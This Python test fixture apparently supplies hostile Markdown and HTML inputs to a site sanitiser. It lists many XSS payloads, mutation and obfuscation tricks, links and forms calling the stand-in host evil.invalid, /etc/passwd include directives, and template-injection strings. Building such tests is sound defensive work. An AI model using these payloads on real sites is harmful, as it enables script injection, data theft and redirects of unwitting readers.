"""Bodies of stories that try to run something, to call another host, to read a file or to cover the page.

`alert(…)` is what they run and `evil.invalid` whom they call, so that a browser can tell.
"""

# ruff: noqa: E501 - a hostile line is one line
from __future__ import annotations

from pathlib import Path

from tests.pages.sites_made import ROOT

CASES = ROOT / "tests" / "cases" / "bad" / "stories"


def _bodies(folder: Path) -> dict[str, str]:
    """The bodies of the injection cases, below their front matter."""
    files = sorted(folder.glob("inj-*.md"))
    return {path.stem: path.read_text("utf-8").split("\n---\n", 1)[1] for path in files}


GIVEN = _bodies(CASES)
OWN = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=https://evil.invalid/x.js></script>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-nested": "<<script>alert(1)//<</script>",
    "script-slash": "<script/x>alert(1)</script/x>",
    "handler-img": "<img src=x onerror=alert(1)>",
    "handler-slash": "<img/src=x/onerror=alert(1)>",
    "handler-own-photo": '<img src="photo.jpg" onload="alert(1)" style="position:fixed;inset:0" srcset="https://evil.invalid/s.jpg 2x">',
    "handler-newline": "<img src=x\nonerror\n=\nalert(1)>",
    "handler-focus": "<input autofocus onfocus=alert(1)><p tabindex=0 autofocus onfocus=alert(1)>x</p>",
    "handler-toggle": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "handler-animation": "<style>@keyframes a{}</style><b style='animation-name:a' onanimationstart=alert(1)>x</b>",
    "handler-marquee": "<marquee onstart=alert(1)>x</marquee>",
    "handler-media": "<video autoplay src=https://evil.invalid/v.mp4 onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "handler-body": "<body onload=alert(1) background=https://evil.invalid/b.png>",
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
    "svg-image": '<svg><image href="https://evil.invalid/i.png" /></svg>',
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "mutation-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation-svg-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation-template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "mutation-table": "<table><tr><td><svg><desc><table><td><svg><img src=x onerror=alert(1)></table></svg>",
    "mutation-select": '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
    "mutation-cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "comment-end": "<!--> <img src=x onerror=alert(1)> -->",
    "comment-odd": "<!--!><img src=x onerror=alert(1)>--!><img src=y onerror=alert(2)>",
    "instruction": "<?xml version='1.0'?><?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "iframe": "<iframe src=https://evil.invalid/></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": "<object data='javascript:alert(1)'></object><embed src=https://evil.invalid/e.swf>",
    "form": "<form action=https://evil.invalid/ id=f><button>送信</button></form><button form=f formaction=javascript:alert(1)>x</button>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)><input type=image src=https://evil.invalid/i.png>",
    "link-entity": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;alert(1)">x</a>',
    "link-control": '<a href="\x01java\tscript:alert(1)">x</a> <a href="java\nscript:alert(1)">y</a>',
    "link-markdown-entity": "[x](javascript&colon;alert(1)) [y](&#x0A;javascript:alert(1))",
    "link-nested": "[a [b](javascript:alert(1)) c](javascript:alert(2)) [![x](javascript:alert(3))](javascript:alert(4))",
    "link-reference": '[x][1] [y] [z][]\n\n[1]: javascript:alert(1)\n[y]: <java&#9;script:alert(1)> "t"\n[z]:\n  vbscript:x',
    "link-title": '[x](https://example.org \'" onmouseover=alert(1) x="\') [y](https://example.org "<img src=x onerror=alert(1)>")',
    "link-auto": '<javascript:alert(1)> <data:text/html,x> <https://example.org/"onmouseover=alert(1)//> <x@y.z"onclick=alert(1)>',
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [y](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "link-other": "[a](blob:https://x) [b](file:///etc/passwd) [c](filesystem:x) [d](view-source:x) [e](jar:x) [f](ms-settings:x)",
    "link-unicode": "[x](\u200bjavascript:alert(1)) [y](java\u00adscript:alert(1)) [z](ｊavascript:alert(1)) [w](javascript：alert(1))",
    "link-ping": '<a href="https://example.org" ping="https://evil.invalid/p" target="_blank" rel="opener" download>x</a>',
    "link-slashes": "[x](//evil.invalid/) [y](\\\\evil.invalid\\) [z](/\\evil.invalid) <area href=javascript:alert(1)>",
    "image-markdown": '![x](javascript:alert(1)) ![y](https://evil.invalid/y.png) ![z](x"onerror="alert(1))',
    "image-alt": '![" onerror="alert(1)](photo.jpg) ![<script>alert(1)</script>](photo.jpg "<b onclick=alert(1)>")',
    "image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "picture": "<picture><source srcset=https://evil.invalid/s.webp><img src=photo.jpg></picture><img srcset='https://evil.invalid/t 1x'>",
    "style-attribute": '<p style="background:url(https://evil.invalid/b.png);position:fixed;inset:0">x</p><font color=red>y</font>',
    "style-import": "<style>@import 'https://evil.invalid/x.css';</style><link rel=stylesheet href=//evil.invalid/y.css>",
    "style-class": '<div class="skip-link" id="main"><h1 id=x class=notice>偽の見出し</h1></div><h5 hidden>y</h5>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "clobber": "<a id=document name=cookie>x</a><form name=body><input name=nodeName></form><img name=currentScript src=photo.jpg>",
    "attr-list": "## 題 {: onclick=alert(1) style=position:fixed }\n\n本文\n{: #main .x onmouseover=alert(1) }\n\n![x](photo.jpg){ onerror=alert(1) }",
    "snippet": '--8<-- "/etc/passwd"\n\n;--8<-- "x"\n\n{!/etc/passwd!}\n\n.. include:: /etc/passwd\n\n[[include /etc/passwd]]',
    "fence": '``` {.html onload=alert(1)}\n<script>alert(1)</script>\n```\n\n~~~ html"onload="alert(1)\n</code></pre><script>alert(2)</script>\n~~~\n\n`</code><img src=x onerror=alert(1)>`',
    "mermaid": '```mermaid\ngraph TD; A-->B; click A call alert(1)\n```\n\n<pre class=mermaid>graph TD; A["<img src=x onerror=alert(1)>"]</pre>',
    "footnote": "x[^1] y[^<img src=x onerror=alert(1)>]\n\n[^1]: <img src=x onerror=alert(1)> [z](javascript:alert(1))",
    "emoji": ':smile:{ onclick="alert(1)" } :material-alert:{: style=position:fixed }',
    "markdown-in-html": '<div markdown="1" onclick=alert(1)>\n\n[x](javascript:alert(1))\n\n<p markdown=block onmouseover=alert(1)>**y**</p>\n</div>',
    "table-cells": "| a | <img src=x onerror=alert(1)> |\n|---|:--|\n| [x](javascript:alert(1)) | <td onclick=alert(1)> |",
    "stash": "\x02wzxhzdk:0\x03 wzxhzdk:0 \x02amp\x03 \x02qq\x03<b onclick=alert(1)>x</b>",
    "template-words": "{{ 7*7 }} {% include '/etc/passwd' %} {{ config }} ${alert(1)} <%= 1 %>",
    "placeholder": '{=K07"onclick=alert(1)} {=<img src=x onerror=alert(1)>} {=K07 <script>alert(1)</script>}',
    "breaking-out": "</div></article></main></body></html><h1>偽</h1><img src=x onerror=alert(1)>",
}
SWALLOWING = {
    "plaintext": "<plaintext><script>alert(1)</script>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea",
    "title": "<title><img src=x onerror=alert(1)>",
    "xmp": "<xmp><img src=x onerror=alert(1)>",
    "open-comment": "<!-- <img src=x onerror=alert(1)>",
    "open-attribute": "<a href=\"https://example.org' title=<img src=x onerror=alert(1)>",
    "frameset": "<frameset onload=alert(1)><frame src=https://evil.invalid/></frameset>",
}
"""These take what follows them with them, so each stands alone where nothing is taken out."""
ALL = {**GIVEN, **OWN, **SWALLOWING}
PAST_THE_POLICY = ("refresh",)
"""A policy has no word about where a page sends its reader; only the sanitiser stops it."""
